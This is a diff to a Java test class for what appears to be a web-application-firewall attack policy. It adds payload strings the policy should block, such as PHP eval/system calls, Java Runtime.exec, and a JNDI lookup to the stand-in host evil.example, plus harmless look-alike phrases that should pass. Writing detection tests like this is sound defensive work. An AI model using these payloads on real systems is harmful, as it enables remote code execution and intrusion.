@@ -94,6 +94,10 @@ class AttacksPolicyTest {
             933120 => $_SERVER['HTTP_HOST']
             933150 => eval(base64_decode('ZWNobyAx'))
             933160 => system('id')
+            933161 => curl_iNit()
+            933161 => eval\r($foo)
+            933161 => escapeshellcmd('x')
+            933161 => ftp_connect("x")
             933170 => O:8:"stdClass":1:{s:1:"a";s:1:"b";}
             944100 => java.lang.Runtime.getRuntime().exec('id')
             944150 => ${jndi:ldap://evil.example/a}
@@ -154,6 +158,8 @@ class AttacksPolicyTest {
             runtime of the movie
             getproperty docs for beginners
             struts and frets
+            file a complaint (online)
+            eval uation of chr
             """)
     void benignLookAlikesPassAtParanoia1(String value) {
         AttacksPolicy policy = pl(1);
@@ -211,6 +217,8 @@ class AttacksPolicyTest {
             java coffee beans
             javascript runtime
             property of the owner
+            /Business and
+            4AND4+
             """)
     void benignLookAlikesPassAtParanoia2(String value) {
         AttacksPolicy policy = pl(2);
